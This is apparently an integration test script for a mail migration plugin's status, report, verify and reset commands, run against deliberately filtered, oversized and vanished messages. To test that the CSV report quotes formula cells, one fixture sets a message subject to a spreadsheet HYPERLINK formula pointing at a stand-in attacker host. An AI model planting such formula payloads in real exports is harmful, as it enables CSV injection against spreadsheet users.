#!/usr/bin/env bash
# Operator evidence: a migration with deliberately failing items (filtered,
# too-big, vanished) and what status/report/verify say about it.
#
#  - a slow run (migrate_max_messages_per_second) shows "running" in
#    status from another process; a message expunged on the source while
#    it runs is logged as "vanished"
#  - a run with migrate_max_size and migrate_max_message_size: report lists
#    every left-out message with the right class, uid and subject; -r
#    filters by class; an unknown class is exit 78
#  - doveadm -f json migrate status/report parse as JSON; report -c writes
#    an RFC 4180 CSV (CRLF, mode 0600) that python's csv module reads with
#    the documented columns; a cell a spreadsheet would run as a formula
#    (a subject "=HYPERLINK(...") starts with a quote, no control character
#  - verify and verify -I explain every difference (exit 0); after a
#    message is expunged at the destination, verify -I exits 2 and names
#    its uid and subject
#  - a run without the filters imports the left-out messages and the
#    report marks them resolved; reset + run creates no duplicates and the
#    destination equals the source
#  - the man page renders without warnings
. "$(dirname "$0")/../lib/harness.sh"
CHECKS="$HARNESS_LIB/checks/report.py"

plugin_built || info "the plugin is not built: the migrate steps will fail"

src_start || die "source server did not start"
dst_start || die "destination server did not start"
src_seed alice --seed 7 --limit 30 >"$T/seed.out" 2>&1 ||
	die "seeding failed: $(tail -n 3 "$T/seed.out")"

# gen_folder USER FOLDER COUNT SIZE SUBJECT: append COUNT generated
# messages of about SIZE bytes to FOLDER on the source ("%d" in SUBJECT
# becomes the message's number).
gen_folder() {
	python3 "$CHECKS" gen-folder "$SRC_PORT" "$1" "$(src_password "$1")" \
		"$2" "$3" "$4" "$5"
}

# Sizes: one message between migrate_max_message_size (50k) and
# migrate_max_size (100k) -> too-big; one above both -> filtered (the
# filter is applied first); three small ones -> imported.
gen_folder alice Sizes 3 2000 "report-small %d" || die "generating Sizes failed"
gen_folder alice Sizes 1 70000 "report-too-big" || die "generating Sizes failed"
gen_folder alice Sizes 1 300000 "report-filtered" || die "generating Sizes failed"
# Formula: a too-big message whose subject a spreadsheet would run as a
# formula: report -c must quote it (CSV injection)
gen_folder alice Formula 1 70000 '=HYPERLINK("http://evil.example/?%d","click")' ||
	die "generating Formula failed"
# Batch: 60 small messages for the slow run
gen_folder alice Batch 60 600 "batch %d" || die "generating Batch failed"

MAX_SIZE=$((100 * 1024))
MAX_MESSAGE_SIZE=$((50 * 1024))

# json_rows FILE: doveadm -f json output -> one python repr per row (fails
# on invalid JSON)
pyjson() { python3 -c "import json,sys
rows = json.load(open(sys.argv[1]))
$1" "$2"; }

# ------------------------------------------------------------ slow run: running + vanished
# pipeline depth 1 so every body is requested only when the previous one
# arrived; at 5 messages/s the 60 messages take ~12 s (the status polls
# and the expunge must happen before the end on a loaded machine too).
dst_doveadm_argv
timeout -k 5 90 "${DST_DOVEADM[@]}" \
	-o plugin/migrate_max_messages_per_second=5 \
	-o plugin/migrate_pipeline_depth=1 \
	migrate run -u alice -m Batch >"$T/slow.out" 2>"$T/slow.err" &
slow_pid=$!
track_pid "$slow_pid"

seen_running=0
for _ in $(seq 1 100); do
	if dst_doveadm -f json migrate status -u alice >"$T/st-run.json" 2>/dev/null &&
		[ "$(pyjson 'print([r["state"] for r in rows if r["folder"] == "*"][0])' "$T/st-run.json" 2>/dev/null)" = running ]; then
		seen_running=1
		break
	fi
	kill -0 "$slow_pid" 2>/dev/null || break
	sleep 0.1
done
assert_eq "status from another process shows the run as running" 1 "$seen_running"
if [ "$seen_running" = 1 ]; then
	started=$(pyjson 'print([r["started"] for r in rows if r["folder"] == "*"][0])' "$T/st-run.json")
	assert_match "a running run has a start time" '^[0-9]{4}-[0-9]{2}-[0-9]{2} ' "$started"
fi

# expunge Batch UID 55 on the source while the run is at ~UID 5..20
check "expunge Batch UID 55 on the source during the run" \
	src_doveadm expunge -u alice mailbox Batch uid 55
still_running=0
kill -0 "$slow_pid" 2>/dev/null && still_running=1
assert_eq "the slow run was still running after the expunge" 1 "$still_running"
# a batch closes after a few seconds however small it is: status shows
# committed mail of a running pass (batches are 500 messages here)
seen_committed=0
for _ in $(seq 1 100); do
	kill -0 "$slow_pid" 2>/dev/null || break
	if dst_doveadm -f json migrate status -u alice >"$T/st-mid.json" 2>/dev/null &&
		[ "$(pyjson 'print([r["imported"] for r in rows if r["folder"] == "Batch"][0])' "$T/st-mid.json" 2>/dev/null || echo 0)" -gt 0 ] &&
		kill -0 "$slow_pid" 2>/dev/null; then
		seen_committed=1
		break
	fi
	sleep 0.2
done
assert_eq "status shows Batch's committed messages while the run is still going" 1 "$seen_committed"
# a running pass's progress: done, planned (Batch's 60 messages, known
# after the listing), rate and ETA, in status -u and status -A alike
progress_check() { # FILE: "ok" or what is missing
	pyjson 'import re
def row(f):
    m = [r for r in rows if r["folder"] == f and
         r.get("username", r.get("Username", "alice")) == "alice"]
    return m[0] if m else {}
run, batch = row("*"), row("Batch")
bad = []
if run.get("state") != "running": bad.append("state %s" % run.get("state"))
if int(run.get("imported") or 0) <= 0: bad.append("imported %s" % run.get("imported"))
if str(run.get("planned")) != "60": bad.append("planned %s" % run.get("planned"))
if int(run.get("planned_bytes") or 0) < 60 * 400: bad.append("planned_bytes %s" % run.get("planned_bytes"))
if not re.match(r"^[0-9]+\.[0-9]$", str(run.get("rate", ""))) or float(run["rate"]) <= 0: bad.append("rate %r" % run.get("rate"))
if not re.match(r"^[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9:]{8}$", str(run.get("eta", ""))): bad.append("eta %r" % run.get("eta"))
if str(batch.get("planned")) != "60": bad.append("Batch planned %s" % batch.get("planned"))
print("ok" if not bad else ", ".join(bad))' "$1" 2>&1
}
progress_u= progress_a=
for _ in $(seq 1 50); do
	kill -0 "$slow_pid" 2>/dev/null || break
	dst_doveadm -f json migrate status -u alice >"$T/st-prog.json" 2>/dev/null
	progress_u=$(progress_check "$T/st-prog.json")
	dst_doveadm -f json migrate status -A >"$T/st-prog-a.json" 2>/dev/null
	progress_a=$(progress_check "$T/st-prog-a.json")
	kill -0 "$slow_pid" 2>/dev/null || break
	[ "$progress_u $progress_a" = "ok ok" ] && break
	sleep 0.2
done
assert_eq "status of a running pass: imported, planned, planned_bytes, rate, eta" ok "$progress_u"
assert_eq "status -A of a running pass: the same" ok "$progress_a"
wait "$slow_pid"
slow_rc=$?
# a message that vanished during the pass was deleted at the source: it
# is not missing, so the folder is completed (exit 0)
assert_eq "slow run with a vanished message exits 0" 0 "$slow_rc"
assert_match "slow run output: Batch imported 59" \
	'Batch +Batch +completed +60 +59 ' "$(cat "$T/slow.out")"
dst_doveadm -f json migrate status -u alice >"$T/st-after.json" 2>"$T/st.err"
assert_eq "status after the slow run is no longer running" completed \
	"$(pyjson 'print([r["state"] for r in rows if r["folder"] == "*"][0])' "$T/st-after.json" 2>&1)"
assert_eq "a finished run shows no plan, rate or ETA" "" \
	"$(pyjson 'print("".join(r["planned"] + r["planned_bytes"] + r["rate"] + r["eta"] for r in rows))' "$T/st-after.json" 2>&1)"

# ------------------------------------------------------------ the terminal progress line
# stderr on a terminal: the line names the run's totals, percent and ETA
dst_add_user ttyrun userdb_migrate_source_user=alice
dst_doveadm_argv
tty_cmd=$(printf '%q ' timeout -k 5 60 "${DST_DOVEADM[@]}" \
	-o plugin/migrate_max_messages_per_second=20 \
	migrate run -u ttyrun -m Batch)
timeout -k 5 90 script -qec "$tty_cmd" /dev/null >"$T/tty.out" 2>&1 </dev/null
assert_match "the terminal progress line: folder, totals, percent, MB, rate, ETA" \
	'ttyrun: Batch [0-9]+/59 msgs, total [0-9]+/59 msgs \([0-9]+%\), [0-9.]+/[0-9.]+ MB, [0-9.]+ msgs/s, ETA ([0-9]+s|[0-9]+m[0-9]{2}s|\?)' \
	"$(tr '\r' '\n' <"$T/tty.out")"

# ------------------------------------------------------------ a misspelled userdb setting
# (issue 15 item 3, on 2.3 and 2.4 alike: 2.4 drops a userdb field that
# names no setting silently, the plugin names it)
dst_add_user typo userdb_migrate_source_user=alice userdb_migrate_source_hots=192.0.2.1
assert_exit NAME="a misspelled userdb field: run exits 78" 78 \
	dst_doveadm migrate run -u typo
one_error "a misspelled userdb field: one error naming it and the nearest name" \
	'Unknown setting migrate_source_hots \(did you mean migrate_source_host\?\)'
assert_exit NAME="a misspelled userdb field: status exits 0" 0 \
	dst_doveadm migrate status -u typo
assert_match "a misspelled userdb field: status warns" \
	'Warning: .*Unknown setting migrate_source_hots' "$(cat "$LAST_ERR")"
# the same in doveadm -o (2.4 drops an -o that names no setting silently;
# a user of its own: a run that misses the typo imports into it only)
dst_add_user otypo userdb_migrate_source_user=alice
assert_exit NAME="a misspelled -o: run exits 78" 78 \
	dst_doveadm -o plugin/migrate_source_hots=192.0.2.1 migrate run -u otypo
one_error "a misspelled -o: one error naming it and the nearest name" \
	'Unknown setting migrate_source_hots \(did you mean migrate_source_host\?\)'
assert_exit NAME="a misspelled -o: status exits 0" 0 \
	dst_doveadm -o plugin/migrate_source_hots=192.0.2.1 migrate status -u otypo
assert_match "a misspelled -o: status warns" \
	'Warning: .*Unknown setting migrate_source_hots' "$(cat "$LAST_ERR")"

# ------------------------------------------------------------ filtered run
assert_exit NAME="run with max_size/max_message_size exits 2 (too-big items)" 2 \
	dst_doveadm -o plugin/migrate_max_size=100k -o plugin/migrate_max_message_size=50k \
	migrate run -u alice
assert_match "run names the failed items in its error" 'see migrate report' "$(cat "$LAST_ERR")"

# ------------------------------------------------------------ report
if dst_doveadm -f json migrate report -u alice >"$T/report.json" 2>"$T/report.err"; then
	pass "migrate report -f json exits 0"
else
	fail "migrate report -f json exits 0" "$(head -c 300 "$T/report.err")"
fi
if pyjson 'assert isinstance(rows, list) and rows' "$T/report.json" 2>"$T/py.err"; then
	pass "migrate report -f json parses as a JSON list"
else
	fail "migrate report -f json parses as a JSON list" "$(tail -n 1 "$T/py.err")"
fi

# report_field FILE FOLDER SUBJECT FIELD
report_field() {
	python3 -c 'import json,sys
rows = json.load(open(sys.argv[1]))
m = [r for r in rows if r["folder"] == sys.argv[2] and r["subject"] == sys.argv[3]]
print(m[0][sys.argv[4]] if len(m) == 1 else "rows=%d" % len(m))' "$@" 2>&1
}
assert_eq "report: the 70k message is too-big" too-big \
	"$(report_field "$T/report.json" Sizes report-too-big reason)"
assert_eq "report: the too-big message's source uid" 4 \
	"$(report_field "$T/report.json" Sizes report-too-big uid)"
assert_eq "report: the 300k message is filtered" filtered \
	"$(report_field "$T/report.json" Sizes report-filtered reason)"
assert_eq "report: the filtered message's source uid" 5 \
	"$(report_field "$T/report.json" Sizes report-filtered uid)"
assert_eq "report: the filtered message is not resolved yet" no \
	"$(report_field "$T/report.json" Sizes report-filtered resolved)"
# Batch was imported into an empty folder, so it was listed without
# headers: a message expunged before its body came is known by UID and
# size only (nothing could read its headers any more)
report_uid_field() { # FILE FOLDER UID FIELD
	python3 -c 'import json,sys
rows = json.load(open(sys.argv[1]))
m = [r for r in rows if r["folder"] == sys.argv[2] and str(r["uid"]) == sys.argv[3]]
print(m[0][sys.argv[4]] if len(m) == 1 else "rows=%d" % len(m))' "$@" 2>&1
}
assert_eq "report: the message expunged during the slow run is vanished" vanished \
	"$(report_uid_field "$T/report.json" Batch 55 reason)"
assert_match "report: the vanished message's size" '^[0-9]{3,}$' \
	"$(report_uid_field "$T/report.json" Batch 55 size)"
assert_match "report: the Message-ID of the too-big one" '^<gen-Sizes-70000-1@report.test>$' \
	"$(report_field "$T/report.json" Sizes report-too-big message_id)"
assert_eq "report: the too-big one was attempted once" 1 \
	"$(report_field "$T/report.json" Sizes report-too-big attempts)"

# every item's class agrees with its size (corpus messages included)
classes=$(python3 -c 'import json,sys
rows = json.load(open(sys.argv[1])); ms, mms = int(sys.argv[2]), int(sys.argv[3])
bad = []
for r in rows:
    size = int(r["size"])
    if r["reason"] == "filtered" and not size > ms: bad.append(r)
    elif r["reason"] == "too-big" and not (mms < size <= ms): bad.append(r)
    elif r["reason"] not in ("filtered", "too-big", "vanished"): bad.append(r)
print("ok" if not bad else "; ".join("%s uid %s %s size %s" % (r["folder"], r["uid"], r["reason"], r["size"]) for r in bad))
' "$T/report.json" "$MAX_SIZE" "$MAX_MESSAGE_SIZE" 2>&1)
assert_eq "report: every item has the class its size calls for" ok "$classes"

# the table output names the same rows
dst_doveadm migrate report -u alice >"$T/report.txt" 2>&1
assert_match "report table: too-big row" 'Sizes +4 +<gen-Sizes-70000-1@report.test> +report-too-big .* too-big ' \
	"$(cat "$T/report.txt")"

assert_exit NAME="report -r too-big exits 0" 0 dst_doveadm -f json migrate report -u alice -r too-big
only=$(python3 -c 'import json,sys; rows = json.load(open(sys.argv[1]))
print(",".join(sorted({r["reason"] for r in rows})))' "$LAST_OUT" 2>&1)
assert_eq "report -r too-big lists only too-big items" too-big "$only"
assert_exit NAME="report -m Sizes exits 0" 0 dst_doveadm -f json migrate report -u alice -m Sizes
assert_eq "report -m Sizes lists only that folder" Sizes \
	"$(python3 -c 'import json,sys; print(",".join(sorted({r["folder"] for r in json.load(open(sys.argv[1]))})))' "$LAST_OUT" 2>&1)"
assert_exit NAME="report -r with an unknown class exits 78" 78 \
	dst_doveadm migrate report -u alice -r no-such-class

# ------------------------------------------------------------ status JSON
if dst_doveadm -f json migrate status -u alice >"$T/status.json" 2>"$T/status.err" &&
	pyjson 'assert isinstance(rows, list) and rows[0]["folder"] == "*"' "$T/status.json" 2>"$T/py.err"; then
	pass "migrate status -f json parses, first row is the run"
else
	fail "migrate status -f json parses, first row is the run" \
		"$(cat "$T/status.err" "$T/py.err" | head -c 300)"
fi
keys=$(pyjson 'print(" ".join(rows[0].keys()))' "$T/status.json" 2>&1)
assert_eq "status columns" \
	"folder dest state source dest_count imported existing failed deferred bytes uids started finished last_error planned planned_bytes rate eta" "$keys"
sizes=$(pyjson 'r = [r for r in rows if r["folder"] == "Sizes"][0]
print(r["state"], r["source"], r["dest_count"], r["failed"], r["deferred"])' "$T/status.json" 2>&1)
assert_eq "status Sizes: state source dest_count failed deferred" \
	"completed-with-errors 5 3 1 1" "$sizes"
assert_eq "status run row: completed-with-errors" completed-with-errors \
	"$(pyjson 'print(rows[0]["state"])' "$T/status.json" 2>&1)"

# ------------------------------------------------------------ CSV
csvdir="$T/csv"
mkdir -p "$csvdir"
chown "$MAIL_USER:$MAIL_USER" "$csvdir"
assert_exit NAME="report -c FILE exits 0" 0 dst_doveadm migrate report -u alice -c "$csvdir/alice.csv"
csv_check=$(python3 "$CHECKS" csv "$csvdir/alice.csv" "$T/report.json" 2>&1)
assert_match "report CSV: mode 0600, CRLF, csv module reads the 12 columns, rows == JSON report" \
	'^ok [0-9]+$' "$csv_check"

# ------------------------------------------------------------ verify
assert_exit NAME="verify explains every difference: exit 0" 0 dst_doveadm migrate verify -u alice
assert_match "verify total row says ok" '^\* +[0-9]+ +[0-9]+ +[0-9]+ +[0-9]+ +0 +ok' \
	"$(grep '^\*' "$LAST_OUT")"
assert_exit NAME="verify -I explains every difference: exit 0" 0 dst_doveadm migrate verify -I -u alice
assert_exit NAME="verify -f json exits 0" 0 dst_doveadm -f json migrate verify -u alice
sizes_v=$(python3 -c 'import json,sys
r = [r for r in json.load(open(sys.argv[1])) if r["folder"] == "Sizes" and r["result"]][0]
print(r["source"], r["destination"], r["explained"], r["unexplained"], r["result"])' "$LAST_OUT" 2>&1)
assert_eq "verify Sizes: source destination explained unexplained result" "5 3 2 0 ok" "$sizes_v"

# ------------------------------------------------------------ destination loses a message
dst_doveadm search -u alice mailbox Sizes subject "report-small 2" >"$T/search.out" 2>&1
dst_uid=$(awk 'NR==1 {print $2}' "$T/search.out")
assert_match "found report-small 2 at the destination" '^[0-9]+$' "$dst_uid"
check "expunge report-small 2 at the destination" \
	dst_doveadm expunge -u alice mailbox Sizes uid "$dst_uid"
assert_exit NAME="verify -I after a destination loss exits 2" 2 dst_doveadm migrate verify -I -u alice
missing_row=$(grep 'unexplained' "$LAST_OUT" | grep -v '^folder')
assert_match "verify -I names the lost message: uid, Message-ID, subject" \
	'^Sizes +Sizes +unexplained +2 +<gen-Sizes-2000-2@report.test> +report-small 2' \
	"$(echo "$missing_row" | sed 's/^ *//')"
assert_eq "verify -I names exactly one message" 1 "$(echo "$missing_row" | grep -c .)"
assert_match "verify -I error says what is missing" 'missing at the destination' "$(cat "$LAST_ERR")"
assert_exit NAME="verify (counts) after a destination loss exits 2" 2 dst_doveadm migrate verify -u alice

# ------------------------------------------------------------ later run without filters
assert_exit NAME="run without the filters exits 0" 0 dst_doveadm migrate run -u alice
assert_match "run without filters imports into Sizes (the 2 left out)" \
	'Sizes +Sizes +completed +5 +2 ' "$(cat "$LAST_OUT")"
dst_doveadm -f json migrate report -u alice >"$T/report2.json" 2>"$T/report.err"
assert_eq "report: the filtered message is now resolved" yes \
	"$(report_field "$T/report2.json" Sizes report-filtered resolved)"
assert_eq "report: the too-big message is now resolved" yes \
	"$(report_field "$T/report2.json" Sizes report-too-big resolved)"
unresolved=$(python3 -c 'import json,sys
print(",".join(sorted("%s/%s:%s" % (r["folder"], r["uid"], r["reason"]) for r in json.load(open(sys.argv[1])) if r["resolved"] != "yes")))' "$T/report2.json" 2>&1)
assert_eq "report: only the vanished message is unresolved" "Batch/55:vanished" "$unresolved"
dst_doveadm -f json migrate status -u alice >"$T/status2.json" 2>/dev/null
assert_eq "status after the unfiltered run: completed" completed \
	"$(pyjson 'print(rows[0]["state"])' "$T/status2.json" 2>&1)"
# the lost message stays lost (destination deletions are not undone)
assert_exit NAME="verify -I still reports the lost message" 2 dst_doveadm migrate verify -I -u alice
assert_match "still named" 'report-small 2' "$(cat "$LAST_OUT")"

# ------------------------------------------------------------ reset + run: no duplicates
assert_exit NAME="migrate reset exits 0" 0 dst_doveadm migrate reset -u alice
assert_exit NAME="report after reset is empty" 0 dst_doveadm -f json migrate report -u alice
assert_eq "report after reset has no rows" 0 \
	"$(python3 -c 'import json,sys; print(len(json.load(open(sys.argv[1]))))' "$LAST_OUT" 2>&1)"
assert_exit NAME="status after reset: queued" 0 dst_doveadm -f json migrate status -u alice
assert_eq "status after reset shows queued" queued \
	"$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))[0]["state"])' "$LAST_OUT" 2>&1)"
dst_mail_files alice | awk '{print $1}' | sort >"$T/files-before-reset"
assert_exit NAME="run after reset exits 0" 0 dst_doveadm migrate run -u alice
# only the lost message comes back: it is the one message file added
dst_mail_files alice | awk '{print $1}' | sort >"$T/files-after-reset"
added=$(comm -13 "$T/files-before-reset" "$T/files-after-reset" | grep -c .)
assert_eq "run after reset writes exactly one message (the lost one)" 1 "$added"
src_dump alice "$T/src.json" || fail "source dump" "failed"
if dst_dump alice "$T/dst.json" 2>"$T/dump.err"; then
	compare_dumps "after reset + run: destination == source, no duplicates" "$T/src.json" "$T/dst.json"
else
	fail "after reset + run: destination == source" "$(tail -n 1 "$T/dump.err")"
fi
assert_exit NAME="verify -I after reset + run exits 0" 0 dst_doveadm migrate verify -I -u alice
assert_exit NAME="another run after reset exits 0" 0 dst_doveadm -f json migrate run -u alice
assert_eq "another run imports nothing" 0 \
	"$(python3 -c 'import json,sys; print(sum(int(r["imported"]) for r in json.load(open(sys.argv[1]))))' "$LAST_OUT" 2>&1)"

# ------------------------------------------------------------ man page
if command -v man >/dev/null 2>&1 && command -v groff >/dev/null 2>&1; then
	warnings=$(MANWIDTH=80 man -l --warnings "$TOP/man/doveadm-migrate.1" 2>&1 >/dev/null)
	rc=$?
	if [ "$rc" = 0 ] && [ -z "$warnings" ]; then
		pass "man -l --warnings renders doveadm-migrate.1 without warnings"
	else
		fail "man -l --warnings renders doveadm-migrate.1 without warnings" \
			"exit $rc: $(printf '%s' "$warnings" | head -n 5 | tr '\n' '|')"
	fi
else
	info "man or groff is not installed: man page check skipped"
fi

harness_done
